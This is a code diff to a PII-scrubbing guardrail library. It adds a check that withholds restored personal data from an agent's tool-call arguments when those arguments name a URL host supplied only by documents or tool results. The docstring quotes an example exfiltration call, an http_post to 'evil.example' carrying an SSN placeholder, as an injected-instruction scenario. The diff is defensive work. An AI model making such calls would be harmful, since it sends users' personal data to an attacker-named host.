@@ -30,7 +30,8 @@ from pydantic import BaseModel, ConfigDict, Field, field_validator, model_valida
 from guardrails_lite.spec import ValidatorSpec
 from guardrails_lite.trust import trusted_spacy_model
 from guardrails_lite.validators._shared.compile_cost import check_compile_cost
-from guardrails_lite.validators._shared.links import Sinks
+from guardrails_lite.messages import message_text
+from guardrails_lite.validators._shared.links import Sinks, names_unknown_host
 from guardrails_lite.validators.pii._engine import (
     NER_ENTITIES,
     PATTERN_ENTITIES,
@@ -320,7 +321,8 @@ class PiiValidator:
         # New tags avoid the text's own placeholder-shaped strings: found once, not searched per tag.
         present = {m.group() for m in _PLACEHOLDER.finditer(text)} if vault is not None else set()
         if restoring and vault is not None:
-            result, scrubbed, restored = self._scrub_and_restore(text, spans, vault, present, ctx.deadline)
+            nowhere = _restores_nowhere(text, ctx)
+            result, scrubbed, restored = self._scrub_and_restore(text, spans, vault, present, ctx.deadline, nowhere)
         else:
             result, scrubbed, restored = self._scrub(text, spans, vault, present, ctx.deadline), spans, 0
         if not scrubbed:
@@ -350,14 +352,20 @@ class PiiValidator:
         return "".join(pieces)
 
     def _scrub_and_restore(
-        self, text: str, spans: list[SpanTuple], vault: Vault, present: Container[str], deadline: float | None
+        self,
+        text: str,
+        spans: list[SpanTuple],
+        vault: Vault,
+        present: Container[str],
+        deadline: float | None,
+        nowhere: bool = False,
     ) -> tuple[str, list[SpanTuple], int]:
         """Output stage with `restore`: the repaired text, the spans scrubbed and how many placeholders came back."""
         pieces: list[str] = []
         last = 0
         scrubbed: list[SpanTuple] = []
         restored = 0
-        sinks = Sinks(text, _PLACEHOLDER) if vault.by_placeholder else None
+        sinks = Sinks(text, _PLACEHOLDER, everywhere=nowhere) if vault.by_placeholder else None
         for k, s in enumerate(spans):
             if not k & _CHECK_EVERY:
                 check_deadline(deadline)
@@ -436,6 +444,23 @@ class PiiValidator:
             digest = hmac.new(key, value.encode("utf-8", "surrogatepass"), hashlib.sha256).hexdigest()
             return f"<{entity}:{digest[:_HASH_CHARS]}>"
         return f"<{entity}>"
+
+
+_TRUSTED_ROLES = frozenset({"user", "system", "developer"})
+
+
+def _restores_nowhere(text: str, ctx: Context) -> bool:
+    """Tool-call arguments naming a URL host that only documents or nobody gave: nothing is restored in them.
+
+    The application's code runs the call (review r16a L4: `http_post({"url": "https://evil.example/c", "data":
+    "<US_SSN_1>"})`); a host the user or the application wrote is known, unless a document or tool result names it
+    too (documents travel inside the user's message).
+    """
+    target = ctx.target
+    if not (target.endswith("arguments") or target.endswith(".input")) or target.startswith("answer"):
+        return False
+    known = "\n".join(t for m in ctx.messages if m.get("role") in _TRUSTED_ROLES and (t := message_text(m)))
+    return names_unknown_host(text, known, "\n".join(d.text for d in ctx.documents))
 
 
 def _unescaped_json(text: str) -> str:
